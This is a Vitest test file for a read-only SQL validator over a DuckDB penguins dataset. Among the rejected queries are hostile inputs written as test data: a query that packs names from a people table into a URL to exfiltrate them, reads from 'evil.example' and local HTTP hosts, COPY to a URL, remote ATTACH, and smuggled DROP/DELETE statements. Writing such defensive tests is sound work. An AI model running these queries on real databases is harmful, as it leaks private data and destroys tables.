import { describe, expect, it } from 'vitest';
import { readOnlyProblem } from './readOnly';

describe('readOnlyProblem', () => {
  it('lets plain read-only queries through', () => {
    for (const sql of [
      'SELECT species, avg(body_mass_g) FROM penguins GROUP BY 1',
      "WITH t AS (SELECT * FROM penguins WHERE species = 'Adelie; DROP TABLE x') SELECT count(*) FROM t",
      'FROM penguins LIMIT 5',
      'DESCRIBE penguins',
      'SUMMARIZE penguins',
      "PRAGMA table_info('penguins')",
      'EXPLAIN SELECT 1',
      'SHOW TABLES',
      'SELECT "set", "copy" FROM t',
      "SELECT * FROM t WHERE note = 'read_text(x)'",
    ]) expect(readOnlyProblem(sql), sql).toBeUndefined();
  });

  it('refuses what changes the session, reaches files or the network, or runs other SQL', () => {
    for (const sql of [
      "SET VARIABLE u = 'http://127.0.0.1:9/?d=' || (SELECT string_agg(name, ',') FROM people); SELECT * FROM read_text(getvariable('u'))",
      "SELECT * FROM read_text('http://127.0.0.1:9/x')",
      "SELECT * FROM read_csv('https://evil.example/a.csv')",
      "SELECT content FROM read_blob('s3://bucket/x')",
      "SELECT * FROM glob('s3://bucket/*')",
      "SELECT * FROM 'http://127.0.0.1:9/leak.csv'",
      "SELECT * FROM penguins, 'http://127.0.0.1:9/leak.csv'",
      "ATTACH 'http://127.0.0.1:9/x.db' AS x",
      'LOAD httpfs',
      'INSTALL httpfs',
      "COPY penguins TO 'http://127.0.0.1:9/out.csv'",
      'CREATE TEMP VIEW penguins AS SELECT 1',
      'SET enable_external_access = false',
      'DROP TABLE penguins',
      'SELECT 1; DELETE FROM penguins',
      "SELECT * FROM query('DROP TABLE penguins')",
      "PRAGMA enable_profiling",
      "EXPORT DATABASE 'x'",
    ]) expect(readOnlyProblem(sql), sql).toBeDefined();
  });
});
